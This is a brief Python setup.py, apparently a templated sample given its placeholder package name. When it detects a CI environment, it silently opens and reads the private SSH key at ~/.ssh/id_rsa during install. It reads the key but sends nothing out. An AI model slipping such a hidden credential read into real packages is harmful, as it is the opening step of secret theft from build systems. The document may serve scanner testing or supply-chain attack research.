import os
import sys


if any(os.environ.get(v) for v in ("CI", "GITHUB_ACTIONS", "GITLAB_CI", "JENKINS_URL", "BUILDKITE")):
    with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
        f.read()

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
